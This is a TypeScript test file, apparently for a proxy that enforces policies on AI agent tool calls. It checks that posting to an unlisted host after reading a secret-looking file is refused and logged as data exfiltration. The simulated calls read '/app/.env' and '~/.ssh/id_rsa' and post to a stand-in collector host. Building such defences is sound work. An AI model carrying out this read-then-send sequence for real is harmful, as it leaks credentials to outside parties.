import { APIError } from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SECRET_READ_SEQUENCE } from '../fixtures/policies.ts';
import { eventually } from '../harness/control-plane.ts';
import { startProxyRig, type ProxyRig } from './harness.ts';
import { READ_AND_POST_REQUEST } from './read-and-post.ts';
import { openAiClient } from './sdk-options.ts';

/**
 * A sequence rule written by the tenant in the policy language, through the proxy with the
 * OpenAI SDK: a read of a secret-looking path, then a post to a host outside the rule's allow
 * list, in one execution, is refused on the second call; the reverse order, the post to an
 * allowed host, and another execution pass.
 */
let rig: ProxyRig;

const readPath = (path: string) => JSON.stringify({ path });
const postTo = (host: string) => JSON.stringify({ url: `https://${host}/ingest`, body: 'weekly summary' });

beforeAll(async () => {
  rig = await startProxyRig();
  await rig.addPolicy({
    name: 'secret-read-then-post',
    priority: 500,
    rules: [
      {
        action: 'tool:http_post',
        effect: 'deny',
        message: 'a secret was read in this execution',
        conditions: [
          {
            field: 'recent_actions',
            operator: 'sequence',
            value: SECRET_READ_SEQUENCE,
          },
          { field: 'tool_hosts', operator: 'not_in', value: ['uploads.acme.example'] },
        ],
      },
    ],
  });
});
afterAll(async () => {
  await rig.close();
});

async function ask(execution: string, tool: string, args: string): Promise<string | undefined> {
  const answer = await openAiClient(rig.agent, {
    'X-Svc-Execution-Id': execution,
    'x-sim-tool-call': tool,
    'x-sim-tool-args': args,
  }).chat.completions.create(READ_AND_POST_REQUEST);
  const call = answer.choices[0]?.message.tool_calls?.[0];
  return call?.type === 'function' ? call.function.name : undefined;
}

describe('a tenant-written sequence rule', () => {
  it('refuses the post that follows a secret read in the same execution', async () => {
    expect(await ask('exec-seq-1', 'read_file', readPath('/app/.env'))).toBe('read_file');
    let error: unknown;
    try {
      await ask('exec-seq-1', 'http_post', postTo('collector.example.net'));
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(APIError);
    expect((error as APIError).status).toBe(403);
    expect((error as APIError).code).toBe('SVC-POL-2001');
    expect((error as APIError).message).toContain('a secret was read in this execution');
    // The proxy reports the match; the control plane keeps it as a detection of the execution.
    const detections = await eventually(
      async () =>
        (await rig.admin('GET', '/v1/brain/immune-system/detections?execution_id=exec-seq-1')).body as {
          detections: Record<string, unknown>[];
        },
      (page) => page.detections.length > 0,
      5000,
      100,
    );
    expect(detections.detections).toEqual([
      expect.objectContaining({
        kind: 'sequence',
        category: 'DATA_EXFILTRATION',
        action: 'tool:http_post',
        response: 'deny',
        execution_id: 'exec-seq-1',
        source: expect.stringMatching(/^proxy/),
      }),
    ]);
  });

  it('lets the same calls through in the reverse order', async () => {
    expect(await ask('exec-seq-2', 'http_post', postTo('collector.example.net'))).toBe('http_post');
    expect(await ask('exec-seq-2', 'read_file', readPath('/app/.env'))).toBe('read_file');
    const listed = await rig.admin('GET', '/v1/brain/immune-system/detections?execution_id=exec-seq-2');
    expect((listed.body as { detections: unknown[] }).detections).toEqual([]);
  });

  it('lets through a post to an allowed host, after a harmless read, or in another execution', async () => {
    await ask('exec-seq-3', 'read_file', readPath('~/.ssh/id_rsa'));
    expect(await ask('exec-seq-3', 'http_post', postTo('uploads.acme.example'))).toBe('http_post');
    await ask('exec-seq-4', 'read_file', readPath('docs/notes.md'));
    expect(await ask('exec-seq-4', 'http_post', postTo('collector.example.net'))).toBe('http_post');
    expect(await ask('exec-seq-5', 'http_post', postTo('collector.example.net'))).toBe('http_post');
  });
});
